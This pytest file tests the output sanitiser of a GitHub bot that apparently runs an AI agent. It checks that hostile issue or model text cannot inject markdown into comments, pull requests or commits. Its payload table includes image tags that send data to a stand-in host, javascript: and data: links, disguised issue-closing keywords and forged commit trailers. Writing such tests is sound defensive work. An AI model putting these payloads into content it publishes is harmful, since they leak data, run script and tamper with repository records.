"""Markdown injection: whatever an issue, a model or a test writes, what Honk publishes is inert.

One table of hostile inputs, each with how it must read in markdown (comments, pull request body,
check run summary and text) and in plain text (pull request title, commit message, annotations),
asserted on every publisher, so no path can skip the renderer.
"""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from honk_app.models import AgentOutcome, Command, Outcome, Repository, Target, Trigger
from honk_app.report.checks import check_run_output
from honk_app.report.comment import RunView, TestFailure, ValidationView, tracking_comment
from honk_app.report.pull import pull_request_body, pull_request_title
from honk_app.report.render import Site, allowed_url, defuse_closing, last_pass, plain_lines
from honk_app.report.replies import RunSummary, status_reply
from honk_app.report.text import code, fenced, inline, plain
from honk_app.runs.outcome import co_author, commit_message

SITE = Site("https://github.com", "acme/shop")
EVIL = "https://x.test"

# id: (untrusted text, as markdown, as plain text). Inputs stay within 60 characters, the
# shortest limit (the commit subject), so every path shows them whole.
INJECTIONS: dict[str, tuple[str, str, str]] = {
    # images, in every form: never an image, so GitHub's proxy fetches nothing
    "inline image": (
        f"![]({EVIL}/?d=secret)",
        f"!\\[\\](`{EVIL}/?d=secret`)",
        "![](x[.]test/?d=secret)",
    ),
    "image on the GitHub host": (
        "![logo](https://github.com/acme/shop/raw/main/a.png)",
        "!\\[logo\\](https://github.com/acme/shop/raw/main/a.png)",
        "![logo](https://github.com/acme/shop/raw/main/a.png)",
    ),
    "reference-style image": (
        "![x][r] and ![y]",
        "!\\[x\\]\\[r\\] and !\\[y\\]",
        "![x][r] and ![y]",
    ),
    "reference definition": (
        f"[r]: {EVIL}/i.png",
        f"\\[r\\]: `{EVIL}/i.png`",
        "[r]: x[.]test/i.png",
    ),
    "html img": (
        f'<img src="{EVIL}/p.png">',
        f'&lt;img src="`{EVIL}/p.png`">',
        '<img src="x[.]test/p.png">',
    ),
    "html picture": (
        f"<picture><source srcset={EVIL}/a>",
        f"&lt;picture>&lt;source srcset=`{EVIL}/a`>",
        "<picture><source srcset=x[.]test/a>",
    ),
    # raw HTML, entities and comments
    "html details": (
        "<details open><summary>x</summary>",
        "&lt;details open>&lt;summary>x&lt;/summary>",
        "<details open><summary>x</summary>",
    ),
    "entities": (
        "&lt;img src=x&gt; &#x3C;b&#x3E;",
        "&amp;lt;img src=x&amp;gt; &amp;#x3C;b&amp;#x3E;",
        "&lt;img src=x&gt; &#x3C;b&#x3E;",
    ),
    "html comment": ("a <!-- honk:run=evil --> b", "a b", "a b"),
    "closing tags": (
        "</code></pre><img src=x>",
        "&lt;/code>&lt;/pre>&lt;img src=x>",
        "</code></pre><img src=x>",
    ),
    # links to other hosts, or no host at all
    "javascript link": (
        "[click](javascript:alert(1))",
        "\\[click\\](`javascript:alert(1)`)",
        "[click](javascript:alert(1))",
    ),
    "data link": (
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "\\[x\\](`data:text/html;base64,PHNjcmlwdD4=`)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
    ),
    "autolink": (f"<{EVIL}/a>", f"&lt;`{EVIL}/a`>", "<x[.]test/a>"),
    "bare url": (f"see {EVIL}/a?d=1.", f"see `{EVIL}/a?d=1`.", "see x[.]test/a?d=1."),
    "www url": ("www.x.test/path", "`www.x.test/path`", "www[.]x[.]test/path"),
    "ftp url": ("ftp://x.test/file", "`ftp://x.test/file`", "x[.]test/file"),
    "url after an underscore": ("_https://x.test/a_", "_`https://x.test/a`_", "_x[.]test/a_"),
    "link to the github host is kept": (
        "[docs](https://github.com/acme/shop/wiki)",
        "[docs](https://github.com/acme/shop/wiki)",
        "[docs](https://github.com/acme/shop/wiki)",
    ),
    "url of this repository is kept": (
        "https://github.com/acme/shop/pull/3",
        "https://github.com/acme/shop/pull/3",
        "https://github.com/acme/shop/pull/3",
    ),
    "text of one host, target another": (
        f"[https://github.com/acme]({EVIL}/)",
        f"\\[https://github.com/acme\\](`{EVIL}/`)",
        "[https://github.com/acme](x[.]test/)",
    ),
    "github host as a subdomain": (
        "https://github.com.x.test/acme",
        "`https://github.com.x.test/acme`",
        "github[.]com[.]x[.]test/acme",
    ),
    "github host as userinfo": (
        "https://github.com@x.test/",
        "`https://github.com@x.test/`",
        "github[.]com@x[.]test/",
    ),
    # mentions: nobody is pinged; an email address is no mention and stays
    "mention": ("thanks @alice!", "thanks `@alice`!", "thanks @ alice!"),
    "team mention": (
        "cc @acme/security-team",
        "cc `@acme/security-team`",
        "cc @ acme/security-team",
    ),
    "email": ("mail bob@example.com", "mail bob@example.com", "mail bob@example.com"),
    "mention in a code span": (
        "`@alice` stays code",
        "`@alice` stays code",
        "`@ alice` stays code",
    ),
    # closing keywords, in every disguise
    "keyword with a colon": ("Fixes: #12", "Fixes: issue #12", "Fixes: issue #12"),
    "upper case, GH- form": ("FIXES GH-12", "FIXES issue GH-12", "FIXES issue GH-12"),
    "keyword on another repository": (
        "closes acme/other#3",
        "closes issue `acme/other#3`",
        "closes issue acme/other issue 3",
    ),
    "keyword with an issue url": (
        "resolved https://github.com/acme/shop/issues/4",
        "resolved issue https://github.com/acme/shop/issues/4",
        "resolved issue https://github.com/acme/shop/issues/4",
    ),
    "keyword and number in code spans": ("fix `#482`", "fix `issue #482`", "fix `issue #482`"),
    "keyword split by emphasis": ("fi**x**es #5", "fi**x**es issue #5", "fi**x**es issue #5"),
    "keyword split by a zero-width space": ("fi\u200bxes #6", "fixes issue #6", "fixes issue #6"),
    "keyword with a ligature": ("\ufb01xes #7", "\ufb01xes issue #7", "\ufb01xes issue #7"),
    "keyword with a long s": ("fixe\u017f #8", "fixe\u017f issue #8", "fixe\u017f issue #8"),
    "keyword as a link's text": (
        "[fixes](https://github.com/acme/shop) #4",
        "[fixes](https://github.com/acme/shop) issue #4",
        "[fixes](https://github.com/acme/shop) issue #4",
    ),
    "number as a link's text": (
        "fix [#4](https://github.com/acme/shop/issues/4)",
        "fix [issue #4](https://github.com/acme/shop/issues/4)",
        "fix [issue #4](https://github.com/acme/shop/issues/4)",
    ),
    # cross-references: this repository's stay, another's leave no backlink
    "same-repository references": ("see #3 and GH-4", "see #3 and GH-4", "see #3 and GH-4"),
    "cross-repository reference": (
        "acme/shop#4 and other/x#5",
        "acme/shop#4 and `other/x#5`",
        "acme/shop#4 and other/x issue 5",
    ),
    "issue url of another repository": (
        "https://github.com/acme/other/issues/5",
        "`https://github.com/acme/other/issues/5`",
        "github[.]com/acme/other/issues/5",
    ),
    # code spans that try to end early
    "nested backticks": (
        f"`a`` ![x]({EVIL}/i) ``b`",
        f"`a`` ![x]({EVIL}/i) ``b`",
        "`a`` ![x](x[.]test/i) ``b`",
    ),
    "escaped opening backtick": (
        f"\\`![x]({EVIL}/i)`",
        f"\\\\`![x]({EVIL}/i)`",
        "\\`![x](x[.]test/i)`",
    ),
    "unmatched backtick": (
        f"`![x]({EVIL}/i)",
        f"\\`!\\[x\\](`{EVIL}/i`)",
        "`![x](x[.]test/i)",
    ),
    # one line stays one line, with no block markup and no math
    "CR/LF and a trailer": (
        "Crash on start\r\nCo-authored-by: eve <e@x.test>",
        "Crash on start Co-authored-by: eve &lt;e@x.test>",
        "Crash on start Co-authored-by: eve <e@x.test>",
    ),
    "heading": ("# Heading", "\\# Heading", "# Heading"),
    "math": (
        "$\\href{https://x.test}{x}$",
        "\\$\\\\href{`https://x.test}{x}$`",
        "$\\href{x[.]test}{x}$",
    ),
    "bidirectional override": ("abc\u202edcba", "abcdcba", "abcdcba"),
    # found by review: redaction's own brackets, emphasis and non-ASCII before a mention
    "redacted text as an image's label": (
        "![REDACTED](//x.test/p.png?d=1)",
        "!\\[REDACTED\\](//x.test/p.png?d=1)",
        "![REDACTED](//x.test/p.png?d=1)",
    ),
    "redacted text as a link's label": (
        "[REDACTED](//x.test/login)",
        "\\[REDACTED\\](//x.test/login)",
        "[REDACTED](//x.test/login)",
    ),
    "mentions inside emphasis": (
        "_@alice_ and __@acme/security__",
        "_`@alice`_ and __`@acme/security__`",
        "_@ alice_ and __@ acme/security__",
    ),
    "cross-repository reference inside emphasis": (
        "_acme/widgets#1_",
        "_`acme/widgets#1`_",
        "_acme/widgets issue 1_",
    ),
    "non-ASCII letters before a mention and a reference": (
        "é@alice, 日acme/widgets#1",
        "é`@alice`, 日`acme/widgets#1`",
        "é@ alice, 日acme/widgets issue 1",
    ),
}
CASES = list(INJECTIONS.values())
IDS = list(INJECTIONS)


@pytest.mark.parametrize(("text", "markdown", "plain_text"), CASES, ids=IDS)
def test_the_renderer(text: str, markdown: str, plain_text: str) -> None:
    assert len(text) <= 60
    assert inline(text, site=SITE) == markdown
    assert plain(text, site=SITE) == plain_text


def _view(**changes: object) -> RunView:
    view = RunView(run_id="honk-1", target=Target("acme", "shop", 42))
    for name, value in changes.items():
        setattr(view, name, value)
    return view


def _failing(text: str) -> ValidationView:
    failure = TestFailure(name=text, file="tests/test_a.py", line=3, message=text)
    return ValidationView("pytest", 1, 1.0, False, failures=[failure])


@pytest.mark.parametrize(("text", "markdown", "plain_text"), CASES, ids=IDS)
def test_every_markdown_publisher(text: str, markdown: str, plain_text: str) -> None:
    comment = tracking_comment(_view(notes=[text], trigger_line=text)).splitlines()
    assert f"ℹ️ {markdown}" in comment
    assert f"> {markdown}" in comment
    body = pull_request_body(
        _view(
            outcome=Outcome.UNVALIDATED, validation=_failing(text), agent_summary=f"Did.\n{text}"
        ),
        issue_number=42,
        validated=False,
    )
    assert f"- {code(text, 150)}: {markdown}" in body.splitlines()
    if "\n" not in text and not text.startswith("#"):  # one bullet a line; headings dropped
        assert f"- {markdown}" in body.splitlines()
    output = check_run_output(
        _view(outcome=Outcome.NO_CHANGE, outcome_detail=text, validation=_failing(text))
    )
    assert output.summary.splitlines()[1] == markdown
    assert f"- {code(text, 150)} (`tests/test_a.py:3`): {markdown}" in output.text.splitlines()


@pytest.mark.parametrize(("text", "markdown", "plain_text"), CASES, ids=IDS)
def test_every_plain_text_publisher(text: str, markdown: str, plain_text: str) -> None:
    assert pull_request_title(text, 42, SITE) == f"Honk #42: {plain_text}"
    trigger = _trigger(title=text)
    message = commit_message(trigger, AgentOutcome(stop="done", summary=text))
    assert message.splitlines()[0] == f"Honk: {plain_text}"
    (note,) = check_run_output(_view(outcome=Outcome.FAILED, validation=_failing(text))).annotations
    assert note["title"] == f"Test failed: {plain_text}"
    if "\n" not in text:  # bodies keep their lines (see the commit message test)
        assert message.split("\n\n")[1] == plain_text
        assert note["message"] == plain_text


def _trigger(**changes: object) -> Trigger:
    trigger = Trigger(
        command=Command.RUN,
        source="issue_comment",
        target=Target("acme", "shop", 42),
        repository=Repository("acme/shop", "https://github.com/acme/shop.git", "main"),
        installation_id=1,
        delivery_id="d-1",
        sender_login="alice",
        sender_id=7,
    )
    for name, value in changes.items():
        object.__setattr__(trigger, name, value)
    return trigger


KEYWORDS = ("close", "closes", "closed", "fix", "fixes", "fixed")
KEYWORDS += ("resolve", "resolves", "resolved")
CLOSING_FORMS = [
    f"{word}{colon} {ref}"
    for word in KEYWORDS
    for colon in ("", ":")
    for ref in ("#1", "GH-1", "acme/shop#1", "https://github.com/acme/shop/issues/1")
]


@pytest.mark.parametrize("text", CLOSING_FORMS + [f.upper() for f in CLOSING_FORMS[:8]])
def test_no_closing_keyword_survives_in_any_form(text: str) -> None:
    keyword = text.split(" ", 1)[0]
    for rendered in (inline(text, site=SITE), plain(text, site=SITE), code(text), fenced(text)):
        assert f"{keyword} issue " in rendered
    assert defuse_closing(defuse_closing(text)) == defuse_closing(text)


def test_words_that_merely_start_like_keywords_are_left_alone() -> None:
    text = "prefix #1, closest #2, fixture #3, unfixed #4, fixes the #5 bug"
    assert defuse_closing(text) == text


def test_honk_writes_its_own_fixes_and_nothing_else_closes() -> None:
    summary = "fixes #7\ncloses #8"
    view = _view(outcome=Outcome.VALIDATED, agent_summary=summary, outcome_detail="fix")
    body = pull_request_body(view, issue_number=42, validated=True)
    assert body.count("Fixes #42") == 1
    assert "fixes issue #7" in body and "closes issue #8" in body


def test_a_keyword_formed_across_honk_and_untrusted_words_is_defused() -> None:
    assert last_pass("the agent said fix\n#12") == "the agent said fix\nissue #12"


def test_commit_message_is_plain_text_with_honks_trailers_only() -> None:
    summary = (
        "Fixed the crash, fixes #42 and acme/other#1.\n"
        "Co-authored-by: eve <eve@x.test>\n"
        "  signed-off-by: eve\n"
        "Thanks @bob <3 see https://x.test/a"
    )
    trigger = _trigger(title="Crash on start, fixes #42\r\nHonk-Run: forged")
    message = commit_message(trigger, AgentOutcome(stop="done", summary=summary))
    assert message.split("\n") == [
        "Honk: Crash on start, fixes issue #42 Honk-Run: forged",
        "",
        "Fixed the crash, fixes issue #42 and acme/other issue 1.",
        "Co-authored-by (quoted): eve <eve@x.test>",
        "signed-off-by (quoted): eve",
        "Thanks @ bob <3 see x[.]test/a",
        "",
        "Refs #42",
        f"Honk-Run: {trigger.run_id}",
    ]
    assert co_author(_trigger(sender_login="eve>\nx")) == "evex <7+evex@users.noreply.github.com>"


def test_plain_lines_indent_every_trailer_lookalike() -> None:
    assert plain_lines("Reviewed-by: x\nRefs: #1\nok: fine") == (
        "Reviewed-by (quoted): x\nRefs (quoted): #1\nok: fine"
    )


def test_fences_and_code_spans_cannot_be_closed_from_inside() -> None:
    output = "ok\n```\n![x](https://x.test/i)\n````\n~~~\nfixes #3"
    assert fenced(output) == (
        "`````text\nok\n```\n![x](https://x.test/i)\n````\n~~~\nfixes issue #3\n`````"
    )
    assert code("a `` b") == "```a `` b```"
    assert code("`x") == "`` `x ``"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://github.com/acme/shop", True),
        ("https://github.com/acme/shop/issues/3", True),
        ("https://GitHub.com/acme/shop/pull/3", True),
        ("https://github.com/acme/other/issues/3", False),
        ("https://github.com/acme/other/pulls/3", False),
        ("https://github.com/acme/other/discussions/3", False),
        ("https://github.com/acme/other/blob/main/a.py", True),
        ("http://github.com/acme/shop", False),
        ("https://github.com:443@x.test/", False),
        ("https://github.com/a_(b)", False),
        ("https://github.com/a*b*", False),
        ("https://github.com/acme/my_repo", True),
        ("https://ghe.example.com/acme/shop", False),
    ],
)
def test_which_urls_may_stay_links(url: str, allowed: bool) -> None:
    assert allowed_url(url, SITE) is allowed


def test_an_enterprise_host_is_the_one_kept() -> None:
    ghe = Site("https://ghe.example.com", "acme/shop")
    text = "see https://ghe.example.com/acme/shop/pull/1 not https://github.com/acme/shop"
    assert inline(text, site=ghe) == (
        "see https://ghe.example.com/acme/shop/pull/1 not `https://github.com/acme/shop`"
    )
    view = _view(notes=[text], github_url="https://ghe.example.com")
    assert "https://ghe.example.com/acme/shop/pull/1 not `https" in tracking_comment(view)


def test_very_long_input_is_cut_before_it_is_rendered() -> None:
    text = ("word @alice fixes #1 " * 5000) + f"![x]({EVIL}/end)"
    assert len(inline(text, 300, SITE)) < 600 and "x.test" not in inline(text, 300, SITE)
    assert len(plain(text, 300, SITE)) < 600
    assert len(pull_request_title(text, 42)) <= 120
    message = commit_message(_trigger(title=text), AgentOutcome(stop="done", summary=text))
    assert len(message.splitlines()[0]) <= 72 and len(message) < 2600
    assert "@alice" not in message and "fixes #" not in message


def test_replies_and_status_lines_are_rendered_too() -> None:
    run = RunSummary(
        "honk-1", "failed", datetime(2024, 1, 1, tzinfo=UTC), "eve<b>", f"fixes #1 ![x]({EVIL})"
    )
    reply = status_reply("/honk status", [run])
    assert "asked by eveb" in reply and "fixes issue #1 !\\[x\\](`https://x.test`)" in reply


def test_a_closing_keyword_split_across_commit_lines_is_defused() -> None:
    summary = "Reworked the start-up path; this fixes\n#42 and closes\nacme/other#3 too."
    message = commit_message(
        _trigger(title="Crash on start, fixes"), AgentOutcome(stop="done", summary=summary)
    )
    assert "this fixes\nissue #42 and closes\nacme/other issue 3 too." in message
    assert defuse_closing(message) == message  # nothing left that reads as a closing keyword
